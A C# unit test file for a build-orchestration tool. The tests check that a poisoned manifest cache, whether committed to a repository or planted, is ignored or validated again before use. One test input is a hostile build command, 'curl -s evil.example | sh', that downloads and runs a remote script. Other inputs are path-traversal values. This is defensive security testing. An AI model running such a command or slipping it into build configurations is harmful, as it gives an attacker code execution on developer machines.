using OctoOrchestrate.Manifest;
using OctoOrchestrate.Tests.Support;

namespace OctoOrchestrate.Tests.Hostile;

/// <summary>
/// F2: the manifest cache never overrides the manifest. It lives outside the checkout (so a clone cannot bring one), is
/// refused when its folder is inside a git working tree, and whatever an entry holds is validated again before use.
/// </summary>
public sealed class ManifestCacheTrustTests : IDisposable
{
    const string Yaml = """
        train: 2026.4.0
        environments: [Dev]
        components:
          - name: a
            paths: ["a/**"]
            build: echo honest > "$OO_OUTPUT/who-built"
        """;

    readonly string cacheRoot = Directory.CreateTempSubdirectory("oo-hostile-cache-root-").FullName;

    public void Dispose() => Directory.Delete(cacheRoot, recursive: true);

    static MonorepoManifest Poisoned(MonorepoManifest honest, string? environment = null, string? build = null, string? packageId = null, string? path = null)
    {
        var component = honest.Components[0];
        return honest with
        {
            Environments = [environment ?? honest.Environments[0]],
            Components = [component with
            {
                Build = build ?? "echo PWNED > \"$OO_OUTPUT/who-built\"",
                PackageId = packageId ?? component.PackageId,
                Paths = path is null ? component.Paths : [path],
            }],
        };
    }

    static void Plant(string entry, string manifestPath, MonorepoManifest content)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(entry)!);
        ManifestCacheFormat.Write(entry, ManifestCache.ToolBuild(), File.ReadAllBytes(manifestPath), content);
    }

    /// <summary>The entry the tool used to trust: .octo-orchestrate/cache/&lt;manifest&gt;.bin beside the manifest.</summary>
    static string InCheckoutEntry(string manifestPath) =>
        Path.Combine(Path.GetDirectoryName(manifestPath)!, ".octo-orchestrate", "cache", Path.GetFileName(manifestPath) + ".bin");

    [Theory]
    [InlineData("echo PWNED > \"$OO_OUTPUT/who-built\"", null)]
    [InlineData("echo PWNED > \"$OO_OUTPUT/who-built\"", "../../../poison-env")]
    [InlineData("curl -s evil.example | sh; echo PWNED > \"$OO_OUTPUT/who-built\"", "Dev")]
    public async Task A_committed_cache_in_the_checkout_is_not_used_by_a_fresh_clone(string build, string? environment)
    {
        using var origin = new TempGitRepo().Write(".gitignore", "artifacts/\n.octo-orchestrate/\n").Write("a/f", "0").Write("octo-orchestrate.yaml", Yaml);
        origin.Commit("initial");
        var manifestPath = Path.Combine(origin.Path, "octo-orchestrate.yaml");
        Plant(InCheckoutEntry(manifestPath), manifestPath, Poisoned(ManifestLoader.Load(manifestPath), environment, build));
        origin.Git("add", "-f", ".octo-orchestrate/cache/octo-orchestrate.yaml.bin");
        origin.Commit("innocent");
        using var clone = new TempGitRepo();
        clone.Git("clone", "-q", origin.Path, "clone");
        var clonePath = Path.Combine(clone.Path, "clone");
        Assert.True(File.Exists(InCheckoutEntry(Path.Combine(clonePath, "octo-orchestrate.yaml"))));

        var outcome = await CliRun.RunAsync(clonePath, "build");

        Assert.True(outcome.ExitCode == 0, outcome.Error + outcome.Out);
        // Each run builds into its own folder under artifacts/build/<component>/.
        var output = Directory.GetDirectories(Path.Combine(clonePath, "artifacts", "build", "a")).Single();
        Assert.Equal("honest\n", File.ReadAllText(Path.Combine(output, "who-built")));
        Assert.Equal(Yaml, File.ReadAllText(Path.Combine(clonePath, "octo-orchestrate.yaml")));
    }

    [Theory]
    [InlineData("../../../poison-env", null, null)]
    [InlineData(null, "/abs/pkg", null)]
    [InlineData(null, null, "../x/**")]
    [InlineData("Dev", "x.lock", null)]
    public void A_planted_entry_the_loader_would_refuse_is_a_miss(string? environment, string? packageId, string? path)
    {
        using var repo = new TempGitRepo().Write("octo-orchestrate.yaml", Yaml);
        var manifestPath = Path.Combine(repo.Path, "octo-orchestrate.yaml");
        Plant(ManifestCache.EntryFor(cacheRoot, manifestPath), manifestPath, Poisoned(ManifestLoader.Load(manifestPath), environment, "echo planted", packageId, path));

        var loaded = ManifestCache.Load(manifestPath, cacheRoot);

        Assert.Equal(["Dev"], loaded.Environments);
        Assert.Equal("a", loaded.Components[0].PackageId);
        Assert.Equal(["a/**"], loaded.Components[0].Paths);
        Assert.Equal("echo honest > \"$OO_OUTPUT/who-built\"", loaded.Components[0].Build);
    }

    [Theory]
    [InlineData("cycle")]
    [InlineData("unknown")]
    [InlineData("duplicate")]
    [InlineData("no-default-channel")]
    public void A_planted_entry_with_a_broken_graph_is_a_miss(string damage)
    {
        using var repo = new TempGitRepo().Write("octo-orchestrate.yaml", Yaml + "\n  - name: b\n    paths: [\"b/**\"]\n");
        var manifestPath = Path.Combine(repo.Path, "octo-orchestrate.yaml");
        var honest = ManifestLoader.Load(manifestPath);
        var (a, b) = (honest.Components[0], honest.Components[1]);
        var planted = damage switch
        {
            "cycle" => honest with { Components = [a with { Uses = ["b"] }, b with { DeployAfter = ["a"] }] },
            "unknown" => honest with { Components = [a with { Uses = ["nope"] }, b] },
            "duplicate" => honest with { Components = [a, b with { Name = "A" }] },
            _ => honest with { Channels = [honest.Channels[0] with { IsDefault = false }] },
        };
        Plant(ManifestCache.EntryFor(cacheRoot, manifestPath), manifestPath, planted);

        var loaded = ManifestCache.Load(manifestPath, cacheRoot);

        Assert.Equal(["a", "b"], loaded.Components.Select(c => c.Name));
        Assert.All(loaded.Components, c => Assert.Empty(c.Uses.Concat(c.DeployAfter)));
        Assert.True(loaded.Channels[0].IsDefault);
    }

    [Theory]
    [InlineData(".cache/oo")]
    [InlineData("deep/er/cache")]
    [InlineData("")]
    public void A_cache_folder_inside_a_git_working_tree_is_never_used(string relative)
    {
        using var repo = new TempGitRepo();
        var inside = Path.Combine(repo.Path, relative);

        Assert.Null(ManifestCache.TrustedRoot(inside));
        Assert.Equal(cacheRoot, ManifestCache.TrustedRoot(cacheRoot));
    }

    [Fact]
    public void The_cache_is_keyed_by_the_manifest_path_and_keeps_the_checkout_clean()
    {
        using var first = new TempGitRepo().Write("octo-orchestrate.yaml", Yaml);
        using var second = new TempGitRepo().Write("octo-orchestrate.yaml", Yaml.Replace("honest", "second", StringComparison.Ordinal));
        var firstPath = Path.Combine(first.Path, "octo-orchestrate.yaml");
        var secondPath = Path.Combine(second.Path, "octo-orchestrate.yaml");

        ManifestCache.Load(firstPath, cacheRoot);
        ManifestCache.Load(secondPath, cacheRoot);

        Assert.NotEqual(ManifestCache.EntryFor(cacheRoot, firstPath), ManifestCache.EntryFor(cacheRoot, secondPath));
        Assert.Equal(2, Directory.GetFiles(cacheRoot, "*.bin").Length);
        Assert.Contains("second", ManifestCache.Load(secondPath, cacheRoot).Components[0].Build, StringComparison.Ordinal);
        Assert.Contains("honest", ManifestCache.Load(firstPath, cacheRoot).Components[0].Build, StringComparison.Ordinal);
        Assert.Equal("?? octo-orchestrate.yaml\n", first.Git("status", "--porcelain", "--ignored"));
    }
}
